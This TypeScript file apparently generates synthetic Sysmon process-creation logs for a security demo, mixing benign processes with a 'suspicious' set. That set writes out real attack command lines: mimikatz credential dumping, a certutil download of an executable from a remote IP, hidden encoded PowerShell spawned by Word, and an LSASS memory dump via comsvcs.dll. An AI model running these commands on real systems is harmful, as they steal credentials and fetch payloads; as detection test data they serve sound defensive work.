import { USERS, WORKSTATIONS } from '../catalog.ts';
import type { Rng } from '../rng.ts';
import type { DemoLog } from '../types.ts';

interface Proc {
  name: string;
  executable: string;
  args: string[];
}

const EXPLORER: Proc = {
  name: 'explorer.exe',
  executable: 'C:\\Windows\\explorer.exe',
  args: ['C:\\Windows\\explorer.exe'],
};
const CMD: Proc = {
  name: 'cmd.exe',
  executable: 'C:\\Windows\\System32\\cmd.exe',
  args: ['C:\\Windows\\System32\\cmd.exe'],
};
const WINWORD: Proc = {
  name: 'WINWORD.EXE',
  executable: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
  args: ['WINWORD.EXE', '/n', 'C:\\Users\\Public\\Invoice_4471.docm'],
};

const BENIGN: Proc[] = [
  {
    name: 'chrome.exe',
    executable: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    args: ['chrome.exe', '--type=renderer'],
  },
  {
    name: 'svchost.exe',
    executable: 'C:\\Windows\\System32\\svchost.exe',
    args: ['svchost.exe', '-k', 'netsvcs', '-p'],
  },
  {
    name: 'OUTLOOK.EXE',
    executable: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE',
    args: ['OUTLOOK.EXE'],
  },
  {
    name: 'Teams.exe',
    executable: 'C:\\Users\\Public\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe',
    args: ['Teams.exe'],
  },
  {
    name: 'notepad.exe',
    executable: 'C:\\Windows\\System32\\notepad.exe',
    args: ['notepad.exe', 'C:\\Users\\Public\\notes.txt'],
  },
  {
    name: 'powershell.exe',
    executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    args: ['powershell.exe', '-NoProfile', '-Command', 'Get-Service'],
  },
  {
    name: 'git.exe',
    executable: 'C:\\Program Files\\Git\\cmd\\git.exe',
    args: ['git.exe', 'pull', '--rebase'],
  },
];

const SUSPICIOUS: { proc: Proc; parent: Proc }[] = [
  {
    proc: {
      name: 'mimikatz.exe',
      executable: 'C:\\Users\\Public\\mimikatz.exe',
      args: ['mimikatz.exe', 'privilege::debug', 'sekurlsa::logonpasswords', 'exit'],
    },
    parent: CMD,
  },
  {
    proc: {
      name: 'certutil.exe',
      executable: 'C:\\Windows\\System32\\certutil.exe',
      args: [
        'certutil.exe',
        '-urlcache',
        '-split',
        '-f',
        'http://95.163.14.7/update.exe',
        'C:\\Users\\Public\\update.exe',
      ],
    },
    parent: CMD,
  },
  {
    proc: {
      name: 'powershell.exe',
      executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      args: [
        'powershell.exe',
        '-NoP',
        '-W',
        'Hidden',
        '-enc',
        'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
      ],
    },
    parent: WINWORD,
  },
  {
    proc: {
      name: 'rundll32.exe',
      executable: 'C:\\Windows\\System32\\rundll32.exe',
      args: [
        'rundll32.exe',
        'C:\\Windows\\System32\\comsvcs.dll,',
        'MiniDump',
        '624',
        'C:\\Users\\Public\\lsass.dmp',
        'full',
      ],
    },
    parent: CMD,
  },
];

const quote = (a: string) => (a.includes(' ') ? `"${a}"` : a);

/** A Sysmon process-creation event (event id 1) in ECS field names (type `sysmon`). */
function processCreate(rng: Rng, ts: number, host: string, user: string, proc: Proc, parent: Proc): DemoLog {
  const command_line = proc.args.map(quote).join(' ');
  return {
    ts,
    doc: {
      type: 'sysmon',
      message: `Process Create: ${proc.executable} ${command_line}`,
      event: {
        code: '1',
        action: 'process-created',
        category: 'process',
        provider: 'Microsoft-Windows-Sysmon',
      },
      host: { name: host, os: { family: 'windows' } },
      user: { name: user, domain: 'CORP' },
      process: {
        pid: rng.int(1000, 20000),
        name: proc.name,
        executable: proc.executable,
        command_line,
        args: proc.args,
        hash: { sha256: rng.hex(64) },
        parent: {
          pid: rng.int(500, 9000),
          name: parent.name,
          executable: parent.executable,
          command_line: parent.args.map(quote).join(' '),
        },
      },
    },
  };
}

export function normalProcess(rng: Rng, ts: number): DemoLog {
  const proc = rng.pick(BENIGN);
  return processCreate(rng, ts, rng.pick(WORKSTATIONS), rng.pick(USERS), proc, EXPLORER);
}

/** One suspicious execution (credential dumping, download cradle, encoded PowerShell, LSASS dump). */
export function suspiciousProcess(rng: Rng, at: number): DemoLog[] {
  const { proc, parent } = rng.pick(SUSPICIOUS);
  return [processCreate(rng, at, rng.pick(WORKSTATIONS), rng.pick(USERS), proc, parent)];
}
